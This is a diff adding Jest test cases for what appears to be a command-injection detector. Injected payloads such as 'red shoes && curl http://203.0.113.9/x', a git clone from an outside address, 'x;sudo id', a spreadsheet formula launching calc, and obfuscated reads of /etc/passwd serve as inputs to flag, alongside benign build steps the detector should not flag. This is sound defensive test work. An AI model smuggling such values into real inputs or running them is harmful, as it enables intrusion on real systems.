@@ -37,6 +37,36 @@ describe('a command in command position', () => {
   });
 
   test.each([
+    'Ann Smith|cat notes.txt',
+    'red shoes;ping -c 9 203.0.113.9',
+    'red shoes && curl http://203.0.113.9/x',
+    '127.0.0.1; docker ps',
+    'a.txt|git clone http://203.0.113.9/x',
+    'a.txt;timeout 5 id',
+    'a.txt&if 1==1 dir',
+    'a.txt;dir;c:\\',
+    'a;[System.Net.Dns]::GetHostName()',
+    "=cmd|' /c calc'!A1",
+    'x;sudo id',
+    'red shoes&date #',
+  ])('behind a name of two words, or run by another: %s', (text) => {
+    expect(confidenceOf(text)).toBeGreaterThanOrEqual(0.5);
+  });
+
+  test.each([
+    'red shoes; black socks',
+    'npm test && curl http://localhost:8080/',
+    'cd app && git pull',
+    'tsc && git push',
+    'new features; go home',
+    'make sure; service provided',
+    'cash on delivery; call me',
+    '1. list; 2. print',
+  ])('words, and steps of a build: %s', (text) => {
+    expect(confidenceOf(text)).toBeLessThan(0.5);
+  });
+
+  test.each([
     ['quotes', "c'a't /etc/passwd"],
     ['empty quotes', 'w""hoami'],
     ['backslashes', 'w\\ho\\am\\i'],
